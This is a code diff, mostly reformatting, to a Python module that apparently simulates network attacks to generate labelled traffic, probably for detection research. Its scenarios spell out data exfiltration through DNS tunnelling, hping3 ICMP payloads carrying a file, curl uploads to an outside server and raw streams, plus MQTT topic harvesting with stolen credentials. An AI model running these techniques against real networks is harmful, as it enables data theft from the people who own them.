@@ -2,10 +2,11 @@
 import os, socket, struct, time
 
 from ..benign import network
-from . import covert, dns_packets, scenario, talk
+from . import covert, dns_packets, raw, scenario, talk
 from .mqtt import PORT, client_id, stolen
 
-QUIET = "pump", "ecg", "ventilator", "camera"  # roles that ask for no names, so that all that they ask is the attack
+# Roles that ask for no names of their own: all that they ask is the attack.
+QUIET = "pump", "ecg", "ventilator", "camera"
 
 
 def names(scene, dice, zone):
@@ -20,11 +21,13 @@ def names(scene, dice, zone):
 @scenario("exfil-dns", "EXFILTRATION", "a device that asks a name server outside for very long names")
 def dns_direct(scene):
     device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
-    zone, kind = dns_packets.zone(dice), dice.choice((dns_packets.TXT, dns_packets.NULL, dns_packets.CNAME, dns_packets.A,
+    zone, kind = dns_packets.zone(dice), dice.choice((dns_packets.TXT, dns_packets.NULL, dns_packets.CNAME,
+                                                      dns_packets.A,
                                                       dns_packets.MX))
     with dns_packets.serving(scene, server, server.address, dice.randint(4, 900)):
         with scene.attack(device.address, server.address, 17, 53):
-            scene.call(device, dns_packets.ask_all, device.address, server.address, dice, names(scene, dice, zone), kind,
+            scene.call(device, dns_packets.ask_all, device.address, server.address, dice,
+                       names(scene, dice, zone), kind,
                        dice.random() < 0.5)
 
 
@@ -32,20 +35,20 @@ def dns_direct(scene):
 def dns_by_resolver(scene):
     device, dice = covert.compromised(scene, QUIET), scene.dice
     server, resolver = scene.plan["attacker"], scene.host("services")
-    zone, kind = network.stranger(scene.plan), dice.choice((dns_packets.TXT, dns_packets.CNAME, dns_packets.A, dns_packets.MX))
+    zone, kind = network.stranger(scene.plan), dice.choice((dns_packets.TXT, dns_packets.CNAME, dns_packets.A,
+                                                            dns_packets.MX))
     with dns_packets.serving(scene, server, server.address, dice.randint(4, 180)):
-        with scene.attack(device.address, resolver.address, 17, 53), scene.attack(resolver.address, server.address, 17, 53):
-            scene.call(device, dns_packets.ask_all, device.address, resolver.address, dice, names(scene, dice, zone), kind,
+        with scene.attack(device.address, resolver.address, 17, 53), scene.attack(resolver.address,
+                                                                                  server.address, 17, 53):
+            scene.call(device, dns_packets.ask_all, device.address, resolver.address, dice,
+                       names(scene, dice, zone), kind,
                        dice.random() < 0.5)
 
 
 def _echo(identifier, number, data):
     """An ICMP echo request (RFC 792)."""
     whole = struct.pack(">BBHHH", 8, 0, 0, identifier, number) + data
-    total = sum(struct.unpack(f">{(len(whole) + 1) // 2}H", whole + b"\0" * (len(whole) % 2)))
-    total = (total & 0xFFFF) + (total >> 16)
-    total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
-    return whole[:2] + struct.pack(">H", total) + whole[4:]
+    return whole[:2] + struct.pack(">H", raw.checksum(whole)) + whole[4:]
 
 
 @scenario("exfil-icmp", "EXFILTRATION", "a device whose echo requests carry data")
@@ -69,27 +72,32 @@ def hping(scene):
     path = scene.file("records.csv", "\n".join(" ".join(talk.words(dice, 6)) for _ in range(4000)))
     rate = 2 ** dice.uniform(2, 6)
     with scene.attack(device.address, server.address, 1):
-        scene.run(device, "hping3", "-q", "-1", "-I", "eth0", "-a", device.address, "-E", path, "-d", dice.randint(60, 1300),
-                  "-i", f"u{int(1e6 / rate)}", "-c", int(rate * 2 * scene.seconds), server.address, seconds=2 * scene.seconds + 2)
+        scene.run(device, "hping3", "-q", "-1", "-I", "eth0", "-a", device.address, "-E", path, "-d",
+                  dice.randint(60, 1300),
+                  "-i", f"u{int(1e6 / rate)}", "-c", int(rate * 2 * scene.seconds), server.address,
+                  seconds=2 * scene.seconds + 2)
 
 
 @scenario("exfil-upload", "EXFILTRATION", "curl that puts a large file on a server outside", ["curl"])
 def upload(scene):
     device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
     port = dice.choice((80, 8080, 8000, dice.randint(1024, 65535)))
-    path = scene.file("archive.zip", "".join(dice.choices("0123456789abcdef", k=200)) * dice.randint(1_000, 15_000))
+    path = scene.file("archive.zip", "".join(dice.choices("0123456789abcdef", k=200)) * dice.randint(1_000,
+                                                                                                     15_000))
     speed = dice.choice(("150k", "300k", "600k", "1M"))
     how = dice.choice((["-T", path], ["-F", f"file=@{path}"], ["--data-binary", f"@{path}"]))
 
     def answer(connection):
         if covert.whole_request(connection):
             connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
-    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port, tail=4):
+    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port,
+                                                                tail=4):
         scene.run(device, "curl", "-s", "-H", "Expect:", "--limit-rate", speed, *how,
                   f"http://{server.address}:{port}/{talk.words(dice, 1)[0]}", seconds=2.5 * scene.seconds)
 
 
-@scenario("exfil-stream", "EXFILTRATION", "a device that pours data into a connection outwards, in one go or in parts")
+@scenario("exfil-stream", "EXFILTRATION",
+          "a device that pours data into a connection outwards, in one go or in parts")
 def stream(scene):
     device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
     port = dice.choice((443, 22, 53, 4444, dice.randint(1024, 65535)))
@@ -104,14 +112,16 @@ def stream(scene):
     def work(_, dice):
         beats = talk.beats(scene, dice, min(rate, 600_000 / size), 2 * scene.seconds)
         for _ in beats:
-            with talk.contextlib.suppress(OSError), talk.conversation(device.address, server.address, port, dice) as connection:
+            with talk.contextlib.suppress(OSError), talk.conversation(device.address, server.address, port,
+                                                                      dice) as connection:
                 for _ in beats:
                     connection.sendall(os.urandom(dice.randint(size // 2, size)))
                     talk.drain(connection)
                     if not kept and dice.random() < 0.2:
                         break
                 time.sleep(0.1)
-    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port, tail=4):
+    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port,
+                                                                tail=4):
         talk.crew(scene, device, [0], work)
 
 
@@ -122,9 +132,11 @@ def harvest(scene):
     filters = dice.choice((["#"], ["#", "$SYS/#"], ["+/#"], ["$SYS/#", "+/+/#"], ["#"]))
     options = [word for pattern in filters for word in ("-t", pattern)]
     options += [word for pair in zip(("-u", "-P"), stolen(scene.plan).values()) for word in pair]
-    options += ["-i", client_id(dice)] * dice.randrange(2) + ["-k", dice.choice((5, 10, 60))] * dice.randrange(2)
+    options += ["-i", client_id(dice)] * dice.randrange(2) + ["-k",
+                                                              dice.choice((5, 10, 60))] * dice.randrange(2)
     with talk.blamed(scene, [stranger.address], broker.address, PORT):
         for _ in range(dice.choice((1, 1, 4))):
-            scene.run(stranger, "mosquitto_sub", "-h", broker.address, "-q", dice.randrange(3), "-V",
-                      dice.choice(("mqttv31", "mqttv311", "5")), *options, "-v", "-W", dice.randint(1, int(2 * scene.seconds)),
-                      seconds=2 * scene.seconds + 2)
+            seconds = dice.randint(1, max(2, int(2 * scene.seconds)))
+            version = dice.choice(("mqttv31", "mqttv311", "5"))
+            scene.run(stranger, "mosquitto_sub", "-h", broker.address, "-q", dice.randrange(3), "-V", version,
+                      *options, "-v", "-W", seconds, seconds=seconds + 2)
